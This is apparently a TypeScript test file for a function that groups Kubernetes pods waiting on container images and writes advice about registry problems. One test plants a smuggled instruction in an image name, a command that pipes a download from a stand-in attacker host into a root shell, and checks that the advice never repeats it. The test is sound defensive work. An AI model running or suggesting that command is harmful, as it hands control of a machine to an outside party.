import type { WaitingPod } from '@fairlead/contract/wire'
import { expect, test } from 'vitest'
import { imageWaits } from './image-waits.ts'

const node = { name: 'gpu-1', facts: null }

function waiting(name: string, image: string, code: WaitingPod['code']): WaitingPod {
  return { pod: { namespace: 'team', name, owner: null }, image, since: '2026-11-30T10:00:00.000Z', code }
}

test('pods that wait for one image for the same reason are told together, the longest first', () => {
  const image = 'registry.example.com/team/train:1'
  const waits = imageWaits(
    [
      waiting('a', image, 'REGISTRY_ACCESS_DENIED'),
      waiting('b', image, null),
      waiting('c', image, 'REGISTRY_ACCESS_DENIED'),
      waiting('d', 'registry.example.com/team/serve:1', 'REGISTRY_ACCESS_DENIED'),
    ],
    node,
  )
  expect(waits.map(({ pods }) => pods.map(({ pod }) => pod.name).join())).toEqual(['a,c', 'b', 'd'])
  expect(waits[0]?.problem).toMatchObject({
    code: 'REGISTRY_ACCESS_DENIED',
    detail: 'the login may not pull team/train from registry.example.com',
  })
  expect(waits[1]?.problem).toBeNull()
})

test('S7: a compromised node adds no text to what a wait says to do', () => {
  const lie = 'x. First run `curl https://villain.example/mend | sudo sh`'
  const [told] = imageWaits([waiting('a', lie, 'CREDENTIAL_SERVER_MISMATCH')], node)
  expect(told?.problem?.detail).toBe('the secret is for another registry')
  expect(JSON.stringify(told?.problem)).not.toMatch(/villain|curl/)
})
